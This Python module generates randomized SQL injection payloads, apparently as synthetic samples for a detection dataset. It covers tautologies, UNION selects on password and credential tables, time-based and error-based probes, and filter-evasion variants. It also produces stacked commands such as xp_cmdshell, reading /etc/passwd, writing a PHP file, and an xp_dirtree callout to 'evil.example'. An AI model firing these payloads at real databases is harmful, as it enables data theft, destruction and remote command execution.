"""Injected SQL by context, dialect and disguise."""

import random
import re

from forms_sqli import FORMS, evaded
from generators_common import mixed_case, number, ordinary, sometimes_encoded, token
from grammar import Generator, Grammar, Shape, VALUE
from surroundings import around
from written.sqli import SQLI

TABLES = ("users", "user", "admin", "information_schema.tables", "information_schema.columns", "mysql.user", "sysobjects", "all_tables", "sqlite_master",
          "pg_catalog.pg_tables", "members", "accounts", "customers", "orders", "dual", "sys.databases", "pg_shadow", "wp_users", "syscolumns", "master..sysdatabases")
COLUMNS = ("password", "username", "user", "pass", "email", "table_name", "column_name", "name", "id", "schema_name", "passwd", "login", "secret", "token", "version()",
           "@@version", "database()", "user()", "current_user", "banner", "sql", "group_concat(table_name)", "concat(user,0x3a,password)", "usename", "hash", "credit_card")
FUNCTIONS = ("version()", "database()", "user()", "@@version", "current_user()", "@@hostname", "@@datadir", "system_user()", "session_user()", "db_name()", "host_name()")


def literal(rng: random.Random) -> str:
    """A constant as SQL writes it."""
    n = str(rng.randint(0, 9999))
    word = token(rng, 1, 5)
    return rng.choice((n, n, f"'{word}'", f"'{n}'", "null", f"0x{word.encode().hex()}", f"char({rng.randint(48, 122)})", f'"{word}"', "true", f"chr({rng.randint(48, 122)})", f"{n}.0"))


def query(rng: random.Random) -> str:
    """An inner select."""
    column, table = rng.choice(COLUMNS), rng.choice(TABLES)
    n = rng.randint(0, 9)
    return rng.choice((
        f"select {column} from {table}", f"select {column} from {table} limit {n},1", f"select {column} from {table} where id={n}", f"select {column} from {table} limit 1 offset {n}",
        f"select count(*) from {table}", f"select top 1 {column} from {table}", f"select {rng.choice(FUNCTIONS)}", f"select {column} from {table} where rownum=1", f"select 1 from {table}",
        f"select group_concat({column}) from {table}", f"select {column} from {table} where {column} like '{token(rng, 1, 3)}%'", f"select distinct {column} from {table}", "select 1",
        f"select max({column}) from {table}", f"select cast({column} as char) from {table}", f"select concat({column},0x7e,{rng.choice(COLUMNS)}) from {table}", f"select*from {table}",
    ))


def same(rng: random.Random) -> str:
    """A condition that always, or never, holds."""
    a, b, s = rng.randint(0, 9999), rng.randint(0, 9999), token(rng, 1, 4)
    op = rng.choice(("=", "=", "=", "=", "<", ">", "<>", "!=", ">=", "<=", " like ", " rlike ", " regexp ", "<=>", " is not ", " between 0 and "))
    return rng.choice((
        f"{a}={a}", f"{a}={b}", f"{a} = {a}", f"'{s}'='{s}", f"'{s}'='{s}'", f'"{s}"="{s}', f"{a}{op}{b}", f"'{s}' like '{s}", f"{a} in ({a})", f"not {a}={b}", "true", "1", f"({a})=({a})",
        f"{a} like {a}", f"{a} between {a} and {b}", f"exists({query(rng)})", f"({query(rng)})>{a}", f"'{s}'<'{s}z", f"1 is not null", f"{a}-{b}={a - b}", f"{a}*2={a * 2}", "''=''", "''='",
        f"length({rng.choice(FUNCTIONS)})={rng.randint(1, 30)}", f"ascii(substr(({query(rng)}),{rng.randint(1, 9)},1))>{rng.randint(32, 127)}", f"substring({rng.choice(FUNCTIONS)},1,1)='{s[0]}'",
        f"mid({rng.choice(FUNCTIONS)},{rng.randint(1, 5)},1)={rng.randint(4, 8)}", f"ord(mid(({query(rng)}),{rng.randint(1, 9)},1))>{rng.randint(32, 127)}", f"{s}={s}", f"'{s}'||'{s}'='{s}{s}",
        f"(select {a})={a}", f"if({a}={a},1,0)", f"case when {a}={b} then 1 else 0 end", f"name is null", f"username is not null", f"'1' = '1", f"1 = 1", f"2>1", f"'a'='a", f"1=1 or 1=1",
    ))


def slow(rng: random.Random) -> str:
    """A call that shows itself by the time it takes."""
    n = rng.choice((1, 2, 3, 5, 7, 10, 15, 20))
    return rng.choice((
        f"sleep({n})", f"(select sleep({n}))", f"benchmark({n}000000,md5({n}))", f"pg_sleep({n})", f"(select {n} from pg_sleep({n}))", f"(select*from(select(sleep({n})))a)", f"if(1=1,sleep({n}),0)",
        f"dbms_pipe.receive_message('{token(rng, 1, 3)}',{n})", f"randomblob({n}00000000)", f"like('abcdefg',upper(hex(randomblob({n}0000000))))", f"dbms_lock.sleep({n})", f"sleep({n})=0",
        f"(select count(*) from generate_series(1,{n}000000))", f"utl_inaddr.get_host_name('{token(rng)}')", f"(select(0)from(select(sleep({n})))v)", f"case when 1=1 then pg_sleep({n}) else null end",
    ))


def noisy(rng: random.Random) -> str:
    """A call that shows what it reads in an error message."""
    inner, n = query(rng), rng.randint(1, 9999)
    return rng.choice((
        f"extractvalue({n},concat(0x7e,({inner})))", f"updatexml({n},concat(0x3a,({inner})),1)", f"(select {n} from(select count(*),concat(({inner}),floor(rand(0)*2))x from {rng.choice(TABLES)} group by x)a)",
        f"cast(({inner}) as int)", f"convert(int,({inner}))", f"exp(~(select*from({inner})x))", f"gtid_subset(({inner}),{n})", f"json_keys((select convert(({inner}) using utf8)))", f"1/(select 0)",
        f"ctxsys.drithsx.sn({n},({inner}))", f"utl_inaddr.get_host_address(({inner}))", f"xmltype((select '<:'||({inner})||'>' from dual))", f"cast(chr(126)||({inner})||chr(126) as numeric)",
        f"polygon((select*from({inner})x))", f"{n} in (select (char(113)+char(122)+({inner})))", f"procedure analyse(extractvalue({n},concat(0x5c,version())),1)", f"ordsys.ord_dicom.getmappingxpath(({inner}),{n},{n})",
    ))


def stacked(rng: random.Random) -> str:
    """A statement of its own."""
    table, word = rng.choice(TABLES), token(rng)
    n = rng.randint(1, 20)
    return rng.choice((
        f"drop table {table}", f"delete from {table}", f"insert into {table} values({n},'{word}')", f"update {table} set password='{word}'", f"truncate table {table}", f"exec xp_cmdshell 'dir'", "shutdown",
        f"exec master..xp_cmdshell 'ping {n}'", f"waitfor delay '0:0:{n}'", f"select pg_sleep({n})", f"declare @a varchar(99) set @a='{word}' exec(@a)", f"create table {word}(a int)", query(rng),
        f"exec sp_configure 'show advanced options',1", f"copy {word} from program 'id'", f"alter table {table} add {word} int", f"grant all on {table} to {word}", f"exec xp_dirtree '\\\\{word}.evil.example\\a'",
        f"attach database '/var/www/{word}.php' as {word}", f"set @a=0x{word.encode().hex()};prepare b from @a;execute b", f"begin dbms_lock.sleep({n}); end", f"drop database {word}", f"if 1=1 waitfor delay '0:0:{n}'",
        f"execute immediate 'select 1 from dual'", f"handler {table} open", f"rename table {table} to {word}", f"load data infile '/etc/passwd' into table {word}", f"exec('sel'+'ect 1')", f"merge into {table} using dual",
    ))


def union(rng: random.Random) -> str:
    """A second result set."""
    columns = [literal(rng) if rng.random() < 0.7 else rng.choice(COLUMNS) for _ in range(rng.randint(1, 9))]
    if rng.random() < 0.4:
        columns = [rng.choice(("null", "1", str(i + 1))) if rng.random() < 0.8 else c for i, c in enumerate(columns)]
    tail = rng.choice(("", "", f" from {rng.choice(TABLES)}", f" from {rng.choice(TABLES)} where 1=1", " from dual", f" limit {rng.randint(0, 9)},1", " into outfile '/tmp/a.php'", f" order by {rng.randint(1, 9)}"))
    return f"union {rng.choice(('', 'all ', 'distinct ', 'all '))}select {','.join(columns)}{tail}"


def clause(rng: random.Random) -> str:
    """What follows the closed value."""
    joiner = rng.choice(("or", "or", "or", "and", "and", "and", "||", "&&", "xor", "or not", "and not", "having", "OR", "AND", "rlike", "where", "|", "&"))
    return rng.choices(
        (
            lambda: f"{joiner} {same(rng)}", lambda: union(rng), lambda: f"{joiner} {slow(rng)}", lambda: f"{joiner} {noisy(rng)}", lambda: f"; {stacked(rng)}",
            lambda: rng.choice((f"order by {rng.randint(1, 60)}", f"group by {rng.randint(1, 9)}", f"group by {rng.choice(COLUMNS)} having 1=1", f"limit {rng.randint(0, 9)},1 into outfile '/tmp/{token(rng)}'",
                                f"procedure analyse()", f"in ({query(rng)})", f"= ({query(rng)})", f"like '%", f"between 1 and ({query(rng)})", f"order by (case when 1=1 then 1 else ({query(rng)}) end)",
                                f",({query(rng)})", f"+({query(rng)})+", f"||({query(rng)})||", f"-{slow(rng)}-", f"*({slow(rng)})", f"div {noisy(rng)}", f"collate nocase", f"is null or {same(rng)}")),
        ),
        weights=(34, 22, 12, 12, 12, 8),
    )[0]()


def spaced(rng: random.Random, text: str) -> str:
    """Other white space, other case, comments in the way."""
    way = rng.random()
    if way < 0.62:
        return text
    if way < 0.72:
        return text.replace(" ", rng.choice(("/**/", "/*!*/", "\t", "\n", "+", "/*a*/", "\r\n", "  ", "\x0b", "\x0c", "%20", "/**//**/", "--\n", "#\n", "\xa0")))
    if way < 0.84:
        return mixed_case(rng, text)
    if way < 0.9:
        return text.upper()
    if way < 0.95:
        for word in ("union", "select", "or", "and", "sleep", "from"):
            text = text.replace(word, rng.choice((f"/*!{word}*/", f"/*!50000{word}*/", word, word[:2] + "/**/" + word[2:], word[:1] + word + word[1:])), 1)
        return text
    return text.replace(" ", "").replace("or", "||").replace("and", "&&") if "select" not in text else text.replace(" select ", "(select(").replace(" ", "/**/")


def numeric(rng: random.Random) -> str:
    """A comparison behind a bare number: no quote, no comment, nothing closed."""
    n, a, b = number(rng), rng.randint(0, 99), rng.randint(0, 9999)
    left, op = rng.choice((f"{b}", f"{b}", f"{b}-{a}", f"{b}+{a}", f"{b}*{a}", f"({b})", f"'{b}'", f"{b}%{a}", f"{b}.0")), rng.choice(("=", "=", "=", " = ", ">", "<", "!=", "<>", " like ", ">=", "<=>", " in "))
    right = f"({b})" if op == " in " else str(rng.choice((b, b, a, b - a, b + a)))
    start = rng.choice((n, n, n, f"{n})", f"{rng.choice(('id', 'cat', 'page', 'p', 'uid', 'item', 'no'))}={n}", f"({n}", f"{n}))"))
    return f"{start} {rng.choice(('and', 'or', 'and', 'or', 'AND', 'OR', '||', '&&', 'xor', 'or not', 'and not', 'having'))} {left}{op}{right}{rng.choice(('', '', '', ' --', '#', ' -- -', ')', ';'))}"


def make(rng: random.Random) -> str:
    """One text of the class."""
    if rng.random() < 0.08:
        return sometimes_encoded(rng, spaced(rng, numeric(rng)))
    if rng.random() < 0.1:
        whole = rng.choice((lambda: stacked(rng), lambda: f"({query(rng)})", lambda: f"{rng.choice(NAMES_FOR_LOGIN)}{rng.choice(LOGIN_ENDS)}", lambda: f"(select(0)from(select(sleep({rng.randint(1, 20)})))v)/*'+"))()
        return sometimes_encoded(rng, spaced(rng, whole))
    close = rng.choice(("'", "'", "'", "'", "", "", "", '"', '"', "')", "'))", '")', ")", "))", "%'", "%')", "`", "\\'", "'||'", "' ", "')) ", "';", "];", "%27", "\xbf'", "''", "']"))
    before = number(rng) if not close or rng.random() < 0.4 else ordinary(rng)
    end = rng.choice(("", "", "", "--", "-- -", "-- ", "--+", "#", " --", "/*", ";--", ";#", ";%00", "-- a", "--%20", "`", "//", " -- -", "'", "and '1'='1", " and 'a'='a", " or '1'='1", "%23", "*/", ";"))
    if end.endswith(("'1'='1", "'a'='a")) and close not in ("'", "')", "' "):
        end = "-- -"
    body = f"{before}{close}{rng.choice((' ', ' ', ' ', '', '/**/', '+'))}{clause(rng)}{rng.choice(('', ' '))}{end}"
    return sometimes_encoded(rng, spaced(rng, body))


NAMES_FOR_LOGIN = ("admin", "root", "administrator", "user", "test", "guest", "sa", "' or 1=1 limit 1")
LOGIN_ENDS = ("'--", "' --", "'#", "'/*", "' or '1'='1", "') or ('1'='1", "' or 1=1#", '"--', '" or ""="', "' or ''='", "'-- -", "';--", "')--", "' or 1=1 or ''='", "' and 1=1--", "'||'1", "'or'1'='1", "' or true--")


def tail(rng: random.Random) -> str:
    """What follows the value that is broken out of, without it: as lists of payloads hold it."""
    return f"{rng.choice((' ', '', ')', ') ', '+', '%20'))}{spaced(rng, clause(rng))}{rng.choice(('', '', '--', ' --', '#', '-- -', ' # ', ';', '--+'))}"


def cut(rng: random.Random) -> str:
    """The first part of an injection, behind a quote that is closed: the rest stands in another field, or was cut off."""
    text = f"{rng.choice(QUOTES)}{rng.choice((' ', ' ', ') ', ')) ', '; '))}{clause(rng)}"
    return text[: max(10, rng.randint(len(text) // 2, len(text)))]


THINGS = ("shoes", "dress", "mug", "lamp", "chair", "desk", "jacket", "bike", "tea", "coffee", "phone", "camera", "book", "novel", "guitar", "knife", "tent", "sofa", "gifts", "pets", "toys", "shirts", "bread", "wine", "cheese", "boots", "hats", "bags", "rugs", "keyboard")
KINDS_OF_THINGS = ("red", "blue", "green", "running", "summer", "wool", "leather", "garden", "kitchen", "cheap", "used", "new", "big", "small", "kids", "black", "vintage", "winter", "wooden", "travel", "organic", "steel", "best", "women's", "men's")
PLAIN_COLUMNS = ("username", "password", "name", "pass", "email", "login", "phone", "user", "id", "role", "address", "card", "secret", "title", "price", "token", "first_name", "pwd")
PLAIN_TABLES = ("users", "members", "customers", "accounts", "admins", "orders", "staff", "clients", "people", "employees", "user", "login", "payments", "cards")


def named(rng: random.Random) -> str:
    """What somebody looks for in a shop, and a union whose columns and tables have names of every day."""
    looked_for = " ".join((*rng.choices(KINDS_OF_THINGS, k=rng.choice((0, 1, 1, 2))), rng.choice(THINGS)))
    columns = rng.choice((",", ", ", ", ")).join(rng.sample((*PLAIN_COLUMNS, "null", "1"), rng.choice((1, 2, 2, 2, 3, 4))))
    where = rng.choice(("", "", "", f" where {rng.choice(PLAIN_COLUMNS)}='{rng.choice(('admin', 'root', '1'))}'", f" limit {rng.randint(1, 20)}", f" order by {rng.randint(1, 4)}"))
    text = f"{looked_for}{rng.choice(CLOSINGS)} union {rng.choice(('', '', 'all ', 'distinct '))}select {columns} from {rng.choice(PLAIN_TABLES)}{where}{rng.choice(('--', '--', '-- ', '-- -', '#', ';--', '/*', ' --', '--+', ''))}"
    return rng.choice((str, str.upper, lambda text: re.sub(r"\b(union|all|distinct|select|from|where|limit|order by)\b", lambda m: m[0].upper(), text)))(text)


CLOSINGS = ("'", "'", "'", "'", '"', "')", '")', "'))", "%'", "%')")
QUOTES = ("'", "'", '"', "1'", "x'", "%27", "-1'", "admin'")


GRAMMAR = Grammar(FORMS, {"first": make, "tail": tail, "cut": cut, "named": named}, {"written": SQLI})
GRAMMAR.rules["evaded"] = lambda rng: evaded(rng, GRAMMAR.fill(rng, rng.choice(("«classic»", "«classic»", "«quoteless»", "«tautology»", "«inserted»", "«sort»"))))
GENERATOR = Generator(GRAMMAR, [
    Shape(30, "first", VALUE), Shape(4, "named", VALUE), Shape(24, "classic", VALUE), Shape(12, "quoteless", VALUE), Shape(9, "tautology", VALUE), Shape(5, "sort", VALUE), Shape(5, "inserted", VALUE), Shape(6, "wrapped", VALUE), Shape(20, "evaded", VALUE), Shape(1, "spread", VALUE), Shape(5, "tail", VALUE), Shape(3, "cut", VALUE), Shape(110, "written", VALUE),
], around, ("quoteless", "tautology", "spread", "tail", "cut"))
generate, generate_placed = GENERATOR.generate, GENERATOR.generate_placed
